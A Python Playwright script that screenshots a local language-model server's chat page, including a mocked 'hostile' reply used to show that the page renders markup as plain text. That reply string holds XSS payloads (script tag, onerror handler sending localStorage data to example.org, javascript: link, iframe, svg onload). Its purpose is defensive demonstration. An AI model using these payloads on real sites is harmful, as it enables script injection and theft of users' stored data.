"""Make the pictures of the server's chat page in Chromium, with the shipped model.

    python scripts/page_screenshot.py [--chromium PATH]

`screenshots/page.png` shows a continued program with the probabilities of its tokens, `page-phone.png` the same page on
a phone, `page-hostile.png` a reply full of markup that would run if anything of it were taken for more than text; that
reply is written here, since no model need be made to say it. Needs the `test` extra and Chromium.

The tokens/s in the pictures are the server's: it runs in a process of its own, leaves a processor to the browser, and
has answered before. Take them when nothing else runs.
"""

from __future__ import annotations

import argparse
import json
import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import httpx
from playwright.sync_api import Page, Route, sync_playwright

from nanochat_tui.system import default_threads

FOLDER = Path(__file__).resolve().parents[1] / "screenshots"
PROMPT = """/// Returns the sum of all even numbers.
fn sum_even(numbers: &[i32]) -> i32 {
"""
HOSTILE = """Here is what you **asked** for: <script>document.title = "taken over"</script>

<img src=x onerror="fetch('https://example.org/?' + localStorage['nanochat-v1'])">

- [a harmless link](https://example.org/) and [one that is none](javascript:alert(1))
- <iframe src="data:text/html,<script>parent.alert(1)</script>"></iframe>

```html
<svg onload="alert(1)"></svg>
```
"""


@contextmanager
def served() -> Iterator[str]:
    """Serve the shipped model on a free port; give the address."""
    command = [sys.executable, "-m", "nanochat_tui.cli.serve_entry", "--port", "0", "--quiet"]
    command += ["--threads", str(max(1, default_threads() - 1))]
    process = subprocess.Popen(command, stderr=subprocess.PIPE, text=True)
    try:
        lines = process.stderr or ()
        url = next(found[1] for line in lines if (found := re.search(r"listening on (http://[^ :]+:\d+)", line)))
        next(line for line in lines if "is ready" in line)
        for _ in range(3):  # what is made during the first replies is there by then
            body = {"prompt": PROMPT, "max_tokens": 200, "logprobs": 5}
            httpx.post(f"{url}/v1/completions", json=body, timeout=120).raise_for_status()
        yield f"{url}/"
    finally:
        process.terminate()
        process.wait(60)


def continued(page: Page, url: str, tokens: int, *, finger: bool = False) -> None:
    """Let the model continue the prompt, and show its probabilities."""
    press = page.tap if finger else page.click  # a mouse that stays somewhere would take the tip there
    page.goto(url)
    page.get_by_text("continues text").wait_for()
    press("#open")
    for name, value in (("max_tokens", tokens), ("seed", 4)):
        page.fill(f"#{name}", str(value))
    press("#probabilities")
    press("#close")
    page.fill("#text", PROMPT)
    press("#send")
    page.locator(".tokens.coloured").wait_for()


def hostile(page: Page, url: str) -> None:
    """Let the page show the hostile reply as a chat model's."""

    def card(route: Route) -> None:
        data: dict[str, Any] = route.fetch().json()
        data["data"][0]["meta"]["chat_template"] = True
        route.fulfill(json=data)

    chunks = [{"delta": {"content": HOSTILE}, "finish_reason": None}, {"delta": {}, "finish_reason": "stop"}]
    body = "".join(f"data: {json.dumps({'choices': [chunk]})}\n\n" for chunk in chunks) + "data: [DONE]\n\n"
    page.route("**/v1/models", card)
    page.route("**/v1/chat/*", lambda route: route.fulfill(content_type="text/event-stream", body=body))
    page.goto(url)
    page.get_by_text("· chat").wait_for()
    page.fill("#text", "Show me some HTML.")
    page.click("#send")
    page.locator(".stats").wait_for()


def main() -> None:
    """Make the three pictures."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--chromium", default=shutil.which("chromium"))
    options = parser.parse_args()
    with served() as url, sync_playwright() as play:
        browser = play.chromium.launch(executable_path=options.chromium, args=["--no-sandbox"])
        page = browser.new_page(viewport={"width": 1000, "height": 640}, color_scheme="light")
        continued(page, url, 72)
        page.locator(".tokens span").nth(12).hover()
        page.screenshot(path=FOLDER / "page.png")
        page = browser.new_page(
            viewport={"width": 390, "height": 760}, color_scheme="dark", has_touch=True, is_mobile=True
        )
        continued(page, url, 48, finger=True)
        page.locator(".tokens span").nth(9).tap()
        page.screenshot(path=FOLDER / "page-phone.png")
        page = browser.new_page(viewport={"width": 1000, "height": 640}, color_scheme="light")
        hostile(page, url)
        page.screenshot(path=FOLDER / "page-hostile.png")
        browser.close()


if __name__ == "__main__":
    main()
